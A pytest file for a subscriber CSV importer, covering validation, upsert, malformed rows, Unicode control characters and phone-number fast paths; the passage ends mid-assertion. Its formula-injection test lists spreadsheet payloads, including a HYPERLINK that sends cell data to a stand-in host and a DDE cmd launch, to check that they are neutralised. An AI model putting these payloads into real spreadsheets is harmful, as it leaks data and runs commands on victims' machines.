"""notifier.subscribers: CSV import (validation, upsert, streaming), add, list, count, find."""

from __future__ import annotations

import csv
import io
import os
import re
import sqlite3
import sys
import uuid
from pathlib import Path
from typing import Any

import phonenumbers
import pytest
from email_validator import EmailNotValidError, validate_email
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from phonenumbers.phonenumberutil import COUNTRY_CODE_TO_REGION_CODE
from sqlalchemy import select

from notifier import characters, subscribers
from notifier.db import read_session, write_session
from notifier.errors import SubscriberNotFound, UsageError
from notifier.models import Subscriber
from notifier.subscribers import ImportReport, SharedMailboxes, csv_files, import_csv, phone_patterns, phones

HEADER = "external_id,name,email,phone,region,services,locale"
GOOD_1 = "ACC-1,Иванов Иван,ivanov@example.org,+79123456701,77,tax-reporting,ru"
GOOD_2 = "ACC-2,Petrov Petr,petrov@example.org,+79123456702,66,tax-reporting;edo,en"


def write_csv(
    tmp_path: Path, *lines: str, name: str = "subs.csv", newline: str = "\n", bom: bool = False
) -> Path:
    path = tmp_path / name
    text = newline.join(lines) + newline
    path.write_bytes((b"\xef\xbb\xbf" if bom else b"") + text.encode("utf-8"))
    return path


def all_subscribers(engine: Any) -> list[Subscriber]:
    with read_session(engine) as session:
        return list(session.execute(select(Subscriber).order_by(Subscriber.id)).scalars())


def by_external_id(engine: Any) -> dict[str, Subscriber]:
    return {s.external_id: s for s in all_subscribers(engine) if s.external_id}


# Importing good rows -----------------------------------------------------------------------


def test_import_stores_normalised_fields(engine, config, tmp_path):
    path = write_csv(
        tmp_path, HEADER,
        "ACC-1,  Иванов   Иван ,Ivanov@EXAMPLE.org,8 (912) 345-67-89,77, tax-reporting ; edo ,",
    )  # fmt: skip
    report = import_csv(engine, config, path)
    assert (report.inserted, report.rejected) == (1, 0)
    [s] = all_subscribers(engine)
    assert s.external_id == "ACC-1"
    assert s.name == "Иванов Иван" and s.name_key == "иванов иван"
    assert s.email == "Ivanov@example.org" and s.email_key == "ivanov@example.org"
    assert s.phone == "+79123456789"
    assert s.services == ";tax-reporting;edo;" and s.service_list == ["tax-reporting", "edo"]
    assert s.locale == config.notifier.default_locale
    assert s.status == "active"
    assert s.created_at.tzinfo is not None and s.updated_at.tzinfo is not None


def test_columns_may_come_in_any_order(engine, config, tmp_path):
    path = write_csv(tmp_path, "locale,region,phone,email,name,services,external_id",
                     "en,66,,a@example.org,Anna,edo,ACC-7")  # fmt: skip
    import_csv(engine, config, path)
    [s] = all_subscribers(engine)
    assert (s.external_id, s.region, s.locale, s.services) == ("ACC-7", "66", "en", ";edo;")


def test_bom_and_crlf_are_accepted(engine, config, tmp_path):
    path = write_csv(tmp_path, HEADER, GOOD_1, GOOD_2, newline="\r\n", bom=True)
    report = import_csv(engine, config, path)
    assert (report.inserted, report.rejected) == (2, 0)
    assert by_external_id(engine)["ACC-2"].locale == "en"


def test_import_accepts_an_open_text_file(engine, config):
    report = import_csv(engine, config, io.StringIO(f"{HEADER}\n{GOOD_1}\n"))
    assert report.inserted == 1


def test_small_batches_import_everything_in_several_transactions(engine, config, tmp_path):
    lines = [f"ACC-{n},Name {n},u{n}@example.org,,77,edo,ru" for n in range(23)]
    progress: list[int] = []
    report = import_csv(engine, config, write_csv(tmp_path, HEADER, *lines), batch_size=5,
                        on_progress=lambda r: progress.append(r.rows))  # fmt: skip
    assert report.inserted == 23 and len(all_subscribers(engine)) == 23
    assert progress[:5] == [5, 10, 15, 20, 23]


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
def test_an_import_leaves_the_sqlite_log_copied_and_the_connection_as_it_was(engine, config, tmp_path):
    """The import checkpoints its write-ahead log less often (quicker); it must still end with
    everything copied into the database file and hand its pooled connection back with SQLite's
    usual checkpoint interval, or the next writer would let the log grow tenfold."""
    lines = [f"ACC-{n},Name {n},u{n}@example.org,+7912{n:07d},77,edo,ru" for n in range(3000)]
    report = import_csv(engine, config, write_csv(tmp_path, HEADER, *lines), batch_size=500)
    assert report.inserted == 3000
    with engine.connect() as conn:
        assert conn.connection.driver_connection.execute("PRAGMA wal_autocheckpoint").fetchone()[0] == 1000
    # The database file alone (``immutable``: the log is not read) holds every row.
    file_only = sqlite3.connect(f"file:{engine.url.database}?immutable=1", uri=True)
    try:
        assert file_only.execute("SELECT count(*) FROM subscriber").fetchone()[0] == 3000
    finally:
        file_only.close()


def test_parallel_validation_gives_the_same_result(engine, config, tmp_path):
    lines = [f"ACC-{n},Name {n},u{n}@example.org,,77,edo,ru" for n in range(30)]
    lines[17] = "ACC-17,Name,not-an-email,,77,edo,ru"
    report = import_csv(engine, config, write_csv(tmp_path, HEADER, *lines), batch_size=4, workers=2)
    assert (report.inserted, report.rejected) == (29, 1)
    assert report.rejections[0].line == 19


# Every validation rule: a bad row between good ones ------------------------------------------

BAD_ROWS = [
    ("ACC-9,Bad,not-an-email,,77,edo,ru", "e-mail 'not-an-email' is not valid"),
    ("ACC-9,Bad,bad@@example.org,,77,edo,ru", "e-mail 'bad@@example.org' is not valid"),
    ("ACC-9,Bad,,12345,77,edo,ru", "phone '12345' is not a valid number"),
    ("ACC-9,Bad,,not a phone,77,edo,ru", "phone 'not a phone' is not a phone number"),
    ("ACC-9,Bad,,,77,edo,ru", "needs an e-mail or a phone"),
    ("ACC-9,Bad,b@example.org,,99,edo,ru", "unknown region '99'"),
    ("ACC-9,Bad,b@example.org,,,edo,ru", "region is empty"),
    ("ACC-9,Bad,b@example.org,,77,edo;cooking,ru", "unknown service 'cooking'"),
    ("ACC-9,Bad,b@example.org,,77,edo,de", "locale must be one of ru, en, not 'de'"),
    ("ACC-9,Bad\x07Bell,b@example.org,,77,edo,ru", "name contains a control character"),
    ("ACC-9\t,Bad,b@example.org,,77,edo,ru", "external_id contains a control character"),
    ('ACC-9,"Two\nlines",b@example.org,,77,edo,ru', "name contains a control character"),
    ("ACC-9," + "N" * 201 + ",b@example.org,,77,edo,ru", "name is longer than 200 characters"),
    ("ACC-" + "9" * 100 + ",Bad,b@example.org,,77,edo,ru", "external_id is longer than 100 characters"),
    ("ACC-9,Bad,b@example.org,,77,edo", "expected 7 fields, found 6"),
    ("ACC-9,Bad,b@example.org,,77,edo,ru,extra", "expected 7 fields, found 8"),
]


@pytest.mark.parametrize(("bad_row", "reason"), BAD_ROWS, ids=[reason for _, reason in BAD_ROWS])
def test_bad_row_is_rejected_with_its_line_and_reason_and_good_ones_imported(
    engine, config, tmp_path, bad_row, reason
):
    path = write_csv(tmp_path, HEADER, GOOD_1, bad_row, GOOD_2)
    errors = io.StringIO()
    report = import_csv(engine, config, path, errors_writer=errors)
    assert (report.inserted, report.rejected) == (2, 1)
    assert sorted(by_external_id(engine)) == ["ACC-1", "ACC-2"]
    [rejection] = report.rejections
    assert rejection.line == 3
    assert reason in rejection.reason
    written = errors.getvalue().splitlines()
    assert written[0] == HEADER + ",line,reason"
    assert len(written) >= 2 and reason.splitlines()[0][:10] in errors.getvalue()


def test_line_numbers_count_physical_lines_after_a_multiline_field(engine, config, tmp_path):
    path = write_csv(
        tmp_path, HEADER, 'ACC-5,"Multi\nline",m@example.org,,77,edo,ru', GOOD_1, "ACC-6,X,,,77,edo,ru"
    )
    report = import_csv(engine, config, path)
    assert [(r.line, r.reason[:4]) for r in report.rejections] == [(2, "name"), (5, "need")]


def test_errors_writer_gets_original_columns_line_and_reason(engine, config, tmp_path):
    path = write_csv(tmp_path, HEADER, GOOD_1, "ACC-9,Плохой,,,77,edo,ru", "ACC-10,Short,x@example.org")
    errors = io.StringIO()
    import_csv(engine, config, path, errors_writer=errors)
    assert errors.getvalue().splitlines() == [
        "external_id,name,email,phone,region,services,locale,line,reason",
        "ACC-9,Плохой,,,77,edo,ru,3,needs an e-mail or a phone (both are empty)",
        'ACC-10,Short,x@example.org,,,,,4,"expected 7 fields, found 3"',
    ]


def test_only_the_first_rejections_are_kept_in_the_report(engine, config, tmp_path):
    lines = [f"ACC-{n},X,,,77,edo,ru" for n in range(30)]
    report = import_csv(engine, config, write_csv(tmp_path, HEADER, *lines))
    assert report.rejected == 30 and len(report.rejections) == 20


# Whole-file problems -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        ("external_id,name,email,phone,region,services", "missing column locale"),
        ("external_id,name,email,phone,region,services,locale,age", "unknown column 'age'"),
        ("external_id,name,mail,phone,region,services,locale", "missing column email; unknown column 'mail'"),
        ("external_id,name,email,email,phone,region,services,locale", "repeated column email"),
    ],
)
def test_bad_header_is_refused_before_anything_is_imported(engine, config, tmp_path, header, expected):
    path = write_csv(tmp_path, header, GOOD_1)
    with pytest.raises(UsageError, match="bad header") as error:
        import_csv(engine, config, path)
    assert expected in str(error.value) and "\n" not in str(error.value)
    assert all_subscribers(engine) == []


def test_missing_and_empty_files_are_one_line_errors(engine, config, tmp_path):
    with pytest.raises(UsageError, match="no such file"):
        import_csv(engine, config, tmp_path / "nope.csv")
    (tmp_path / "empty.csv").write_bytes(b"")
    with pytest.raises(UsageError, match="the file is empty"):
        import_csv(engine, config, tmp_path / "empty.csv")


def test_rows_that_are_not_utf8_are_rejected_with_their_line(engine, config, tmp_path):
    path = tmp_path / "mixed.csv"
    path.write_bytes(f"{HEADER}\n{GOOD_2}\n".encode() + GOOD_1.encode("cp1251") + b"\n")
    errors = io.StringIO()
    report = import_csv(engine, config, path, errors_writer=errors)
    assert (report.inserted, report.rejected) == (1, 1)
    assert (report.rejections[0].line, report.rejections[0].reason) == (
        3,
        "not UTF-8 text (save the file as UTF-8)",
    )
    assert "ACC-1,\ufffd" in errors.getvalue()


# Re-import: upsert, never duplicate ------------------------------------------------------------


def test_reimporting_the_same_file_changes_nothing(engine, config, tmp_path):
    path = write_csv(tmp_path, HEADER, GOOD_1, GOOD_2, "ACC-3,No mail,,+79123456703,50,,")
    first = import_csv(engine, config, path)
    before = [(s.id, s.updated_at) for s in all_subscribers(engine)]
    second = import_csv(engine, config, path)
    assert (first.inserted, first.updated, first.unchanged) == (3, 0, 0)
    assert (second.inserted, second.updated, second.unchanged) == (0, 0, 3)
    assert [(s.id, s.updated_at) for s in all_subscribers(engine)] == before


def test_changed_field_is_updated_in_place(engine, config, tmp_path):
    import_csv(engine, config, write_csv(tmp_path, HEADER, GOOD_1, GOOD_2))
    old = by_external_id(engine)["ACC-1"]
    moved = "ACC-1,Иванов Иван,new@example.org,+79123456701,66,edo,en"
    report = import_csv(engine, config, write_csv(tmp_path, HEADER, moved, GOOD_2, name="v2.csv"))
    assert (report.inserted, report.updated, report.unchanged) == (0, 1, 1)
    new = by_external_id(engine)["ACC-1"]
    assert new.id == old.id and len(all_subscribers(engine)) == 2
    assert (new.email, new.region, new.services, new.locale) == ("new@example.org", "66", ";edo;", "en")
    assert new.updated_at > old.updated_at and new.created_at == old.created_at


def test_rows_without_external_id_are_matched_by_email_case_insensitively(engine, config, tmp_path):
    import_csv(engine, config, write_csv(tmp_path, HEADER, ",Anna,Anna@Example.org,,77,edo,ru"))
    report = import_csv(
        engine, config, write_csv(tmp_path, HEADER, ",Anna K,ANNA@example.ORG,,78,edo,ru", name="2.csv")
    )
    assert (report.inserted, report.updated) == (0, 1)
    [s] = all_subscribers(engine)
    assert (s.name, s.region, s.email_key) == ("Anna K", "78", "anna@example.org")


def test_rows_with_neither_external_id_nor_email_are_matched_by_phone(engine, config, tmp_path):
    import_csv(engine, config, write_csv(tmp_path, HEADER, ",Boris,,8 912 345 67 01,77,edo,ru"))
    report = import_csv(
        engine, config, write_csv(tmp_path, HEADER, ",Boris,,+7 912 3456701,77,edo,ru", name="2.csv")
    )
    assert (report.inserted, report.unchanged) == (0, 1)
    assert len(all_subscribers(engine)) == 1


def test_reimport_does_not_reactivate_unsubscribed_or_bounced(engine, config, tmp_path, make_subscriber):
    make_subscriber(external_id="ACC-1", status="unsubscribed")
    make_subscriber(external_id="ACC-2", status="bounced")
    report = import_csv(engine, config, write_csv(tmp_path, HEADER, GOOD_1, GOOD_2))
    assert report.updated == 2
    found = by_external_id(engine)
    assert (found["ACC-1"].status, found["ACC-2"].status) == ("unsubscribed", "bounced")
    assert found["ACC-1"].email == "ivanov@example.org"


def test_duplicate_key_in_one_file_last_row_wins(engine, config, tmp_path):
    path = write_csv(tmp_path, HEADER, GOOD_1, "ACC-1,Later,later@example.org,,50,edo,ru", GOOD_2)
    report = import_csv(engine, config, path)
    assert (report.inserted, report.superseded) == (2, 1)
    assert by_external_id(engine)["ACC-1"].name == "Later"


def test_duplicate_key_across_batches_last_row_wins(engine, config, tmp_path):
    path = write_csv(tmp_path, HEADER, GOOD_1, GOOD_2, "ACC-1,Later,later@example.org,,50,edo,ru")
    report = import_csv(engine, config, path, batch_size=2)
    assert (report.inserted, report.updated) == (2, 1)
    assert len(all_subscribers(engine)) == 2 and by_external_id(engine)["ACC-1"].name == "Later"


def test_fast_email_path_agrees_with_email_validator():
    for address in [
        "A.B@EXAMPLE.org",
        "x+tag@sub.example.co.uk",
        "o'neil@example.org",
        "u@xn--d1acufc.xn--p1ai",
        "a" * 65 + "@example.org",
    ]:
        assert (
            subscribers.normalise_email(address)
            == validate_email(address, check_deliverability=False).normalized
        )
    for address in [
        "a..b@example.org",
        "x@localhost",
        "x@ex_ample.org",
        "x@-ex.org",
        "x@123.45",
    ]:
        with pytest.raises(subscribers.RowError):
            subscribers.normalise_email(address)


# add, list, count, unsubscribe -------------------------------------------------------------------


def test_add_subscriber_validates_and_refuses_duplicates(engine, config):
    with write_session(engine) as session:
        s = subscribers.add_subscriber(session, config, external_id="ACC-5", name="Олег", email="OLEG@example.org",
                                       phone="8 912 345-67-05", region="54", services=["edo"])  # fmt: skip
    assert (s.email_key, s.phone, s.services, s.status) == (
        "oleg@example.org",
        "+79123456705",
        ";edo;",
        "active",
    )
    with (
        pytest.raises(UsageError, match="account number 'ACC-5' already exists"),
        write_session(engine) as session,
    ):
        subscribers.add_subscriber(session, config, external_id="ACC-5", email="x@example.org", region="54")
    with pytest.raises(UsageError, match="unknown region '00'"), write_session(engine) as session:
        subscribers.add_subscriber(session, config, email="y@example.org", region="00")
    assert len(all_subscribers(engine)) == 1


def test_list_filters_by_region_service_and_status(engine, make_subscriber):
    make_subscriber(external_id="A", region="77", services=["edo"])
    make_subscriber(external_id="B", region="66", services=["tax-reporting"])
    make_subscriber(external_id="C", region="66", services=["edo", "tax-reporting"], status="unsubscribed")
    with read_session(engine) as session:

        def ids(**kw: Any) -> list[str | None]:
            return [s.external_id for s in subscribers.list_subscribers(session, **kw)]

        assert ids() == ["A", "B", "C"]
        assert ids(region="66") == ["B", "C"]
        assert ids(service="edo") == ["A", "C"]
        assert ids(status="unsubscribed") == ["C"]
        assert ids(limit=1, offset=1) == ["B"]


def test_count_by_regions_and_services_counts_active_only_by_default(engine, make_subscriber):
    make_subscriber(region="77", services=["tax-reporting"])
    make_subscriber(region="77", services=["edo"])
    make_subscriber(region="66", services=["tax-reporting", "edo"])
    make_subscriber(region="66", services=["tax-reporting"], status="unsubscribed")
    make_subscriber(region="54", services=["statistics"])
    with read_session(engine) as session:
        count = subscribers.count_subscribers
        assert count(session) == 4
        assert count(session, regions=["77", "66"]) == 3
        assert count(session, services=["tax-reporting"]) == 2
        assert count(session, regions=["66"], services=["tax-reporting"]) == 1
        assert count(session, regions=["66"], status=None) == 2
        assert count(session, services=["tax"]) == 0  # whole codes only


def test_unsubscribe_is_idempotent_and_keeps_bounced(engine, config, make_subscriber):
    make_subscriber(external_id="ACC-1", email="a@example.org")
    make_subscriber(external_id="ACC-2", status="bounced")
    with write_session(engine) as session:
        assert subscribers.unsubscribe(session, "A@EXAMPLE.ORG", config=config).status == "unsubscribed"
    with write_session(engine) as session:
        assert subscribers.unsubscribe(session, "ACC-1").status == "unsubscribed"
        assert subscribers.unsubscribe(session, "ACC-2").status == "bounced"
    with pytest.raises(SubscriberNotFound), write_session(engine) as session:
        subscribers.unsubscribe(session, "ACC-404")


# find -----------------------------------------------------------------------------------------


@pytest.fixture
def people(make_subscriber):
    make_subscriber(
        external_id="ACC-100", name="Иванова Мария Петровна", email="Maria@Example.org", phone="+79123456789"
    )
    make_subscriber(
        external_id="ACC-200", name="Петров Иван", email="petrov@example.org", phone="+79001112233"
    )
    make_subscriber(external_id="ACC-300", name="John Smith", email="john@example.org", phone="+442079460958")


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ("ACC-200", ["ACC-200"]),
        ("maria@example.ORG", ["ACC-100"]),
        ("8 (912) 345-67-89", ["ACC-100"]),
        ("+7 912 3456789", ["ACC-100"]),
        ("89123456789", ["ACC-100"]),
        ("9123456789", ["ACC-100"]),
        ("+44 20 7946 0958", ["ACC-300"]),
        ("МАРИЯ", ["ACC-100"]),
        ("петров", ["ACC-100", "ACC-200"]),  # Петровна and Петров
        ("smith", ["ACC-300"]),
        ("nobody", []),
        ("100%", []),
    ],
)
def test_find_by_any_kind_of_key(engine, config, people, query, expected):
    with read_session(engine) as session:
        assert [s.external_id for s in subscribers.find(session, config, query)] == expected


def test_get_one_raises_for_nothing_and_for_ambiguous(engine, config, people):
    with read_session(engine) as session:
        assert subscribers.get_one(session, config, "8 900 111-22-33").external_id == "ACC-200"
        with pytest.raises(SubscriberNotFound, match="'ACC-999'"):
            subscribers.get_one(session, config, "ACC-999")
        with pytest.raises(subscribers.AmbiguousSubscriber, match="matches 2 subscribers"):
            subscribers.get_one(session, config, "петров")
        with pytest.raises(UsageError):
            subscribers.find(session, config, "   ")


def test_report_counts_add_up(engine, config, tmp_path):
    report: ImportReport = import_csv(engine, config, write_csv(tmp_path, HEADER, GOOD_1, "x,y", GOOD_2))
    assert report.rows == report.imported + report.rejected + report.superseded == 3


# Malformed CSV: every bad row reported by line, every valid row imported -----------------------

STRAY_QUOTE = 'Q1,"bad"quote,q1@example.org,,77,edo,ru'
UNTERMINATED = 'Q2,"unterminated,q2@example.org,,77,edo,ru'
TOO_LONG = "Q3," + "x" * 140_000 + ",q3@example.org,,77,edo,ru"  # over csv's 131,072 field limit
QUOTED = 'ACC-4,"Сидоров, Пётр",sidorov@example.org,,66,edo,ru'


def test_malformed_rows_are_each_rejected_by_line_and_the_valid_ones_imported(engine, config, tmp_path):
    path = write_csv(tmp_path, HEADER, GOOD_1, STRAY_QUOTE, GOOD_2, UNTERMINATED,
                     "ACC-3,Третий,third@example.org,,77,edo,ru", TOO_LONG, QUOTED,
                     'Q4,"bad"again,q4@example.org,,77,edo,ru')  # fmt: skip
    errors = io.StringIO()
    report = import_csv(engine, config, path, batch_size=2, errors_writer=errors)
    assert sorted(by_external_id(engine)) == ["ACC-1", "ACC-2", "ACC-3", "ACC-4"]
    assert by_external_id(engine)["ACC-4"].name == "Сидоров, Пётр"
    reasons = {r.line: r.reason for r in report.rejections}
    assert sorted(reasons) == [3, 5, 7, 9] and report.rejected == 4
    assert "text follows the closing quote" in reasons[3] and "text follows the closing quote" in reasons[9]
    assert "never closed" in reasons[5]
    assert "longer than 32,768 characters" in reasons[7]
    written = list(csv.reader(io.StringIO(errors.getvalue())))
    assert [row[-2] for row in written[1:]] == ["3", "5", "7", "9"]
    assert written[2][0] == UNTERMINATED and len(written[3][0]) < 300
    again = import_csv(engine, config, path, batch_size=2)
    assert (again.inserted, again.updated, again.unchanged, again.rejected) == (0, 0, 4, 4)


def test_an_unterminated_quote_on_the_last_line_is_reported(engine, config, tmp_path):
    report = import_csv(engine, config, write_csv(tmp_path, HEADER, GOOD_1, GOOD_2, UNTERMINATED))
    assert report.inserted == 2 and [(r.line, "never closed" in r.reason) for r in report.rejections] == [
        (4, True)
    ]


def test_an_unterminated_quote_does_not_swallow_rows_whose_quotes_come_later(engine, config, tmp_path):
    later = [f'ACC-{n},"Name {n}",n{n}@example.org,,77,edo,ru' for n in range(5, 40)]
    report = import_csv(engine, config, write_csv(tmp_path, HEADER, UNTERMINATED, *later))
    assert report.inserted == 35 and [r.line for r in report.rejections] == [2]


def test_blank_lines_are_not_rows(engine, config, tmp_path):
    path = write_csv(tmp_path, HEADER, GOOD_1, "", "  ", GOOD_2, "", "", newline="\r\n")
    report = import_csv(engine, config, path)
    assert (report.rows, report.inserted, report.rejected) == (2, 2, 0)


# Formula injection: neutralised in the errors file, kept as it was in the database --------------

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
            "@SUM(A1:A9)", "\tTAB", " =1+1"]  # fmt: skip


def test_cells_a_spreadsheet_would_run_are_neutralised_in_the_errors_file(engine, config, tmp_path):
    bad = [f"B{n},{_quoted(formula)},,,77,edo,ru" for n, formula in enumerate(FORMULAS)]
    path = write_csv(tmp_path, HEADER, *bad, 'ACC-1,"=1+1",ok@example.org,,77,edo,ru',
                     'ACC-2,x,"=2+2",,77,edo,ru')  # fmt: skip
    errors = io.StringIO()
    report = import_csv(engine, config, path, errors_writer=errors)
    written = list(csv.reader(io.StringIO(errors.getvalue())))[1:]
    names = [row[1] for row in written[: len(FORMULAS)]]
    assert names == ["'" + formula for formula in FORMULAS]
    assert all(not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t")) for row in written for cell in row)
    assert by_external_id(engine)["ACC-1"].name == "=1+1"  # the database keeps what the file said
    assert report.rejected == len(FORMULAS) + 1


def _quoted(value: str) -> str:
    return '"' + value.replace('"', '""') + '"'


# Names: control, direction and invisible characters -------------------------------------------


@pytest.mark.parametrize(
    ("name", "reason"),
    [("Bad\x9b31mName", "name contains a control character (U+009B)"),
     ("Next\x85Line", "name contains a control character (U+0085)"),
     ("Line\u2028Separator", "name contains a control character (U+2028)"),
     ("Иван\u202eвонаври", "name contains an invisible character that reverses or reorders the text (U+202E)"),
     ("Isolate\u2066x\u2069", "(U+2066)")],
)  # fmt: skip
def test_control_and_direction_characters_in_a_name_are_refused(engine, config, tmp_path, name, reason):
    report = import_csv(
        engine, config, write_csv(tmp_path, HEADER, GOOD_1, f"ACC-9,{name},n@example.org,,77,edo,ru")
    )
    assert report.inserted == 1 and report.rejections[0].line == 3 and reason in report.rejections[0].reason


def test_zero_width_characters_are_stripped(engine, config, tmp_path):
    import_csv(
        engine,
        config,
        write_csv(tmp_path, HEADER, "ACC\u200b-7,Ива\u200bнов\ufeff\u00ad,z@example.org,,77,edo,ru"),
    )
    assert by_external_id(engine)["ACC-7"].name == "Иванов"


def test_add_refuses_a_direction_override_in_the_name(engine, config):
    with pytest.raises(UsageError, match="U\\+202E"), write_session(engine) as session:
        subscribers.add_subscriber(
            session, config, name="moc.\u202eelppa", email="a@example.org", region="77"
        )


def test_add_without_services_adds_a_subscriber_of_none(engine, config):
    with write_session(engine) as session:
        added = subscribers.add_subscriber(session, config, name="Без услуг", email="n@example.org",
                                           region="77", services=[])  # fmt: skip
    assert added.services == "" and added.service_list == []


# One mailbox under two account numbers -------------------------------------------------------------


def test_one_email_under_two_account_numbers_is_imported_with_a_warning_naming_both_lines(
    engine, config, tmp_path
):
    path = write_csv(tmp_path, HEADER, "ACC-1,Первая,same@example.org,,77,edo,ru", GOOD_2,
                     "ACC-7,Вторая,Same@Example.ORG,,66,edo,ru", "ACC-1,Снова,same@example.org,,77,edo,ru",
                     "ACC-8,Третья,other@example.org,,77,edo,ru")  # fmt: skip
    report = import_csv(engine, config, path, batch_size=2)
    assert len(all_subscribers(engine)) == 4 and report.shared_mailboxes == 1
    [warning] = report.warnings
    assert warning.email == "same@example.org" and warning.accounts == (("ACC-1", 2), ("ACC-7", 4))
    assert "ACC-1 (line 2), ACC-7 (line 4)" in warning.message
    assert report.as_dict()["warnings"][0]["accounts"][1] == {"external_id": "ACC-7", "line": 4}


# Property: whatever mix of good, broken and blank lines, every good row lands and every bad one is
# reported on its own line ----------------------------------------------------------------------------

_NAME_CHARS = st.characters(codec="utf-8", categories=("L", "N", "Zs", "P"), exclude_characters="\x85")
_CONTROL_CHARS = st.sampled_from(["\x00", "\x07", "\x1b", "\t", "\n", "\r", "\r\n", "\x7f", "\x85", "\x9b",
                                  "\u2028", "\u2029", "\u202e", "\u202d", "\u2066", "\u200f"])  # fmt: skip
_good = st.builds(
    lambda name: ("good", name), st.text(_NAME_CHARS, min_size=1, max_size=20).filter(str.strip)
)
_bad = st.one_of(
    st.builds(lambda name: ("stray-quote", name), st.text(_NAME_CHARS, max_size=10)),
    st.builds(lambda name: ("unterminated", name), st.text(_NAME_CHARS, max_size=10)),
    st.builds(lambda name, char, cut: ("control", name[:cut] + char + name[cut:]),
              st.text(_NAME_CHARS, max_size=10), _CONTROL_CHARS, st.integers(0, 10)),
)  # fmt: skip
_LINE_BREAK = re.compile(r"\r\n|\r|\n")


def _row(kind: str, name: str, key: str) -> str:
    tail = f"{key}@example.org,,77,edo,ru\n"
    if kind == "stray-quote":
        return f'{key},"{name.replace(chr(34), "")}"x,{tail}'
    if kind == "unterminated":
        return f'{key},"{name.replace(chr(34), "")},{tail}'
    out = io.StringIO()
    csv.writer(out).writerow([key, name, f"{key}@example.org", "", "77", "edo", "ru"])
    return out.getvalue()


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(rows=st.lists(st.one_of(_good, _bad, st.just(("blank", ""))), max_size=20), batch=st.integers(1, 6))
def test_any_mix_of_good_broken_and_blank_rows(engine, config, tmp_path, rows, batch):
    run = uuid.uuid4().hex[:8]
    text, line, good, bad = HEADER + "\n", 2, set(), {}
    for n, (kind, name) in enumerate(rows):
        key = f"P{run}-{n}"
        row = "\n" if kind == "blank" else _row(kind, name, key)
        if kind == "good":
            good.add(key)
        elif kind != "blank":
            bad[line] = key
        text += row
        line += len(_LINE_BREAK.findall(row))
    path = tmp_path / f"{run}.csv"
    path.write_text(text, encoding="utf-8", newline="")
    report = import_csv(engine, config, path, batch_size=batch)
    # A broken quote may pair with the next broken row's quote into one record spanning both
    # lines (CSV's own rules): it is then reported once, with both lines.
    covered = {n for r in report.rejections for n in range(r.line, r.line + r.lines)}
    assert set(bad) <= covered and 0 < report.rejected <= len(bad) or not bad
    assert report.inserted == len(good)
    stored = {s.external_id for s in all_subscribers(engine) if s.external_id.startswith(f"P{run}-")}
    assert stored == good
    again = import_csv(engine, config, path, batch_size=batch)
    assert (again.inserted, again.updated, again.unchanged, again.rejected) == (
        0,
        0,
        len(good),
        report.rejected,
    )


# Fast paths prove themselves against the libraries they stand in for -----------------------------
# (The import's speed comes from these; each must answer exactly as phonenumbers or email_validator
# would, or leave the answer to them.)

_REGIONS = sorted(phonenumbers.SUPPORTED_REGIONS)
_TYPES = [phonenumbers.PhoneNumberType.FIXED_LINE, phonenumbers.PhoneNumberType.MOBILE,
          phonenumbers.PhoneNumberType.TOLL_FREE, phonenumbers.PhoneNumberType.PREMIUM_RATE,
          phonenumbers.PhoneNumberType.VOIP, phonenumbers.PhoneNumberType.UAN]  # fmt: skip
_EXAMPLES = [number for region in _REGIONS for kind in _TYPES
             if (number := phonenumbers.example_number_for_type(region, kind)) is not None]  # fmt: skip
_FORMATS = [phonenumbers.PhoneNumberFormat.E164, phonenumbers.PhoneNumberFormat.INTERNATIONAL,
            phonenumbers.PhoneNumberFormat.NATIONAL]  # fmt: skip
_SEPARATORS = st.sampled_from(["", " ", "-", ".", "(", ")", " (", ") ", "  "])
_COUNTRIES = st.one_of(st.sampled_from(["RU", "KZ", "US", "CA", "GB", "IT", "DE", "FR", "BR", "AR", "MX", "CI",
                                        "IN", "CN", "JP", "AU", "UA", "BY", "SM", "VA"]),
                       st.sampled_from(_REGIONS))  # fmt: skip


@st.composite
def _typed_numbers(draw: Any) -> str:
    """A phone number as people type it: a real number's format or random digits, other separators,
    a trunk or international prefix put in front, a digit changed, added or lost."""
    if draw(st.booleans()):
        number = draw(st.sampled_from(_EXAMPLES))
        text = phonenumbers.format_number(number, draw(st.sampled_from(_FORMATS)))
    else:
        text = draw(st.sampled_from(["", "+", "8", "7", "0", "00", "810", "011", "+7", "+1"])) + draw(
            st.text("0123456789", min_size=1, max_size=17)
        )
    prefix = draw(st.sampled_from(["", "", "8 ", "810 ", "00", "0", "+", "7", "1 "]))
    text = prefix + text.lstrip("+") if prefix else text
    chars = list(text.replace(" ", draw(_SEPARATORS)) if draw(st.booleans()) else text)
    for _ in range(draw(st.integers(0, 2))):
        at = draw(st.integers(0, len(chars)))
        what = draw(st.sampled_from(["digit", "drop", "separator"]))
        if what == "drop" and chars:
            del chars[min(at, len(chars) - 1)]
        else:
            chars.insert(at, draw(st.sampled_from("0123456789")) if what == "digit" else draw(_SEPARATORS))
    return "".join(chars).strip()


def _reference_e164(raw: str, country: str) -> str | None:
    try:
        return phones.slow_e164(raw, country)
    except phones.PhoneError:
        return None


@settings(max_examples=1500, deadline=None)
@given(raw=_typed_numbers(), country=_COUNTRIES)
def test_the_phone_fast_path_never_accepts_or_normalises_differently_from_phonenumbers(raw, country):
    fast = phones.fast_e164(raw, country)
    assert fast is None or fast == _reference_e164(raw, country)


@settings(max_examples=2000, deadline=None)
@given(code=st.sampled_from(sorted(COUNTRY_CODE_TO_REGION_CODE)), digits=st.text("0123456789", min_size=2, max_size=17),
       example=st.sampled_from(_EXAMPLES), use_example=st.booleans(), cut=st.integers(-3, 3))  # fmt: skip
def test_the_phone_validity_check_is_phonenumbers_is_valid_number(code, digits, example, use_example, cut):
    if use_example:  # a real number's digits, perhaps a few more or fewer: near the boundaries
        code, digits = example.country_code, phonenumbers.national_significant_number(example)
        digits = digits[:cut] if cut < 0 else digits + "0123"[:cut]
    number = phonenumbers.PhoneNumber(country_code=code, national_number=int(digits or "0"))
    if len(digits) > 1 and digits[0] == "0":
        number.italian_leading_zero = True
        number.number_of_leading_zeros = min(len(digits) - len(digits.lstrip("0")), len(digits) - 1)
    assert (
        phones._valid(code, digits, phones._Reads(), 0) == phonenumbers.is_valid_number(number)
